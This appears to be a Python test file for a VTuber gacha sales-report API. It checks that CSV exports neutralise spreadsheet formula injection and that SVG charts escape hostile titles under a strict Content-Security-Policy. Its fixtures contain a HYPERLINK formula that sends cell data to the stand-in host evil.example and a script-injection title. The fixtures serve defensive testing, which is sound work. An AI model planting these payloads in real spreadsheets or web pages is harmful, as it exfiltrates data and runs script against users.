"""The sales report as a CSV sheet (Excel-ready, formula-injection safe) and as an SVG chart
(escaped, scriptless, under a strict Content-Security-Policy)."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime

import httpx

from koepon.app import Platform
from koepon.vtuber.sales.chart import bar_chart
from koepon.vtuber.sales.sheet import safe
from payment.fixtures.shop import signed_in
from vtuber.sales_events import catalog, completed, feed

RANGE = {"from": "2026-11-29", "to": "2026-11-30"}
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"SSR確定")'
SCRIPT_TITLE = '</title><script>alert("x")</script><foreignObject>&amp;\x01'
SVG = "{http://www.w3.org/2000/svg}"


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


async def test_the_csv_is_an_excel_ready_attachment_with_no_formula(
    client: httpx.AsyncClient, platform: Platform
) -> None:
    owner, _, token = await signed_in(client, platform, roles=["vtuber"])
    await feed(
        platform,
        catalog("g-evil", owner, title=HOSTILE_TITLE),
        catalog("@g-at", owner, title="-2+3"),
        catalog("g-ok", owner, title="冬のボイス+α"),
        completed(
            vtuber_id=owner,
            gacha_id="g-evil",
            rarities=["SR", "N"],
            paid_medals=450,
            free_medals=150,
            paid_value_jpy=450,
            at=datetime(2026, 11, 29, 3, tzinfo=UTC),
        ),
        completed(vtuber_id=owner, gacha_id="@g-at", at=datetime(2026, 11, 30, 3, tzinfo=UTC)),
        completed(vtuber_id=owner, gacha_id="g-ok", at=datetime(2026, 11, 30, 4, tzinfo=UTC)),
    )

    answer = await client.get(
        f"/api/v1/vtubers/{owner}/sales.csv", params=RANGE, headers=bearer(token)
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == (
        f'attachment; filename="sales-{owner}-2026-11-29-2026-11-30.csv"'
    )
    assert answer.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert [(r["day"], r["gacha_id"], r["title"]) for r in rows] == [
        ("2026-11-29", "g-evil", "'" + HOSTILE_TITLE),
        ("2026-11-30", "'@g-at", "'-2+3"),
        ("2026-11-30", "g-ok", "冬のボイス+α"),
    ]
    first = rows[0]
    assert (
        first["draws"],
        first["paid_medals"],
        first["free_medals"],
        first["value_jpy"],
        first["SR"],
        first["N"],
        first["unique_fans"],
    ) == ("2", "450", "150", "450", "1", "1", "1")
    for row in rows:  # no cell of the sheet starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_only_text_cells_that_start_a_formula_are_prefixed() -> None:
    for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe(cell) == "'" + cell
    for cell in ("ガチャ", "a=b", "1-2", ""):
        assert safe(cell) == cell


async def test_the_chart_escapes_a_hostile_title_and_forbids_everything_else(
    client: httpx.AsyncClient, platform: Platform
) -> None:
    owner, _, token = await signed_in(client, platform, roles=["vtuber"])
    await feed(
        platform,
        catalog("g-xss", owner, title=SCRIPT_TITLE),
        completed(
            vtuber_id=owner,
            gacha_id="g-xss",
            paid_value_jpy=1234,
            at=datetime(2026, 11, 30, 3, tzinfo=UTC),
        ),
    )

    answer = await client.get(
        f"/api/v1/vtubers/{owner}/sales/chart.svg",
        params={**RANGE, "gacha_id": "g-xss"},
        headers=bearer(token),
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "image/svg+xml"
    assert answer.headers["content-security-policy"] == (
        "default-src 'none'; style-src 'unsafe-inline'"
    )
    assert answer.headers["x-content-type-options"] == "nosniff"
    body = answer.text
    assert "<script" not in body and "<foreignObject" not in body and "\x01" not in body
    root = ET.fromstring(body)  # well-formed XML
    assert root.tag == f"{SVG}svg"
    title = root.find(f"{SVG}title")
    assert title is not None and title.text is not None
    assert title.text.startswith('</title><script>alert("x")</script><foreignObject>&amp;')
    bars = root.findall(f"{SVG}rect")[1:]  # after the background
    assert len(bars) == 2  # one per day of the range
    assert [bar.find(f"{SVG}title").text for bar in bars] == [  # type: ignore[union-attr]
        "2026-11-29: 0 円",
        "2026-11-30: 1,234 円",
    ]

    draws = await client.get(
        f"/api/v1/vtubers/{owner}/sales/chart.svg",
        params={**RANGE, "metric": "draws"},
        headers=bearer(token),
    )
    assert draws.status_code == 200
    assert "2026-11-30: 1 回" in draws.text
    refused = await client.get(
        f"/api/v1/vtubers/{owner}/sales/chart.svg",
        params={"metric": "javascript"},
        headers=bearer(token),
    )
    assert refused.status_code == 422 and "metric" in refused.json()["detail"]


def test_a_year_of_bars_stays_a_bounded_document() -> None:
    bars = [(date(2024, 1, 1).fromordinal(date(2024, 1, 1).toordinal() + n), n) for n in range(366)]
    svg = bar_chart(title="年間", unit="円", bars=bars)
    root = ET.fromstring(svg)
    assert len(root.findall(f"{SVG}rect")) == 367
    assert len(root.findall(f"{SVG}text")) <= 4 + 12  # labels: title, axis, unit, ≤ 12 days
    assert len(svg) < 200_000
